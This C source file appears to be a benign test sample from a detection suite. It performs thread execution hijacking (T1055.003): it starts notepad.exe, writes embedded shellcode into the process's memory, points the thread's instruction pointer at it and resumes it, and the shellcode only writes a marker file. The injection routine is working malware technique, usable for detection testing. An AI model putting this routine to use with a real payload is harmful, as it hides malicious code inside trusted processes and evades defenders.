/*
 * injector.c - generality suite: thread execution hijacking, T1055.003 (benign, emulator-only).
 *
 * Starts C:\Windows\System32\notepad.exe, suspends its thread (SuspendThread), writes the
 * shellcode embedded in this EXE's data and its context block into new memory of the process
 * (VirtualAllocEx, WriteProcessMemory twice), points the thread's instruction pointer at the
 * shellcode (GetThreadContext, SetThreadContext: Rip, or Eip on x86) and lets it run (ResumeThread). The shellcode
 * (../../lineage-common/payload_self.c) writes C:\Users\Public\lineage_hijack.txt.
 * Exit codes: 0 ok, 1 no marker, 2 process, 3 memory, 4 thread.
 */
#include "common.h"
#include "blobs.h"

#define CTX_OFFSET 0x800

void Entry(void)
{
    static struct sc_ctx ctx;
    static CONTEXT tc;
    static char cmd[] = "C:\\Windows\\System32\\notepad.exe";
    STARTUPINFOA si;
    PROCESS_INFORMATION pi;
    unsigned char *si_bytes = (unsigned char *)&si;
    unsigned char *code;
    SIZE_T written;
    DWORD i;

    if (!marker_present())
        ExitProcess(1);
    for (i = 0; i < sizeof(si); i++)
        si_bytes[i] = 0;
    si.cb = sizeof(si);
    if (!CreateProcessA(0, cmd, 0, 0, FALSE, 0, 0, 0, &si, &pi))
        ExitProcess(2);
    SuspendThread(pi.hThread);
    code = (unsigned char *)VirtualAllocEx(pi.hProcess, 0, 0x1000, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
    if (!code)
        ExitProcess(3);
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_hijack.txt", "thread hijacked in notepad\n");
    if (!WriteProcessMemory(pi.hProcess, code, payload, sizeof(payload), &written) ||
        !WriteProcessMemory(pi.hProcess, code + CTX_OFFSET, &ctx, sizeof(ctx), &written))
        ExitProcess(3);
    tc.ContextFlags = CONTEXT_FULL;
    if (!GetThreadContext(pi.hThread, &tc))
        ExitProcess(4);
#ifdef _WIN64
    tc.Rip = (DWORD64)code;
#else
    tc.Eip = (DWORD)code;
#endif
    if (!SetThreadContext(pi.hThread, &tc) || ResumeThread(pi.hThread) == (DWORD)-1)
        ExitProcess(4);
    CloseHandle(pi.hThread);
    CloseHandle(pi.hProcess);
    ExitProcess(0);
}
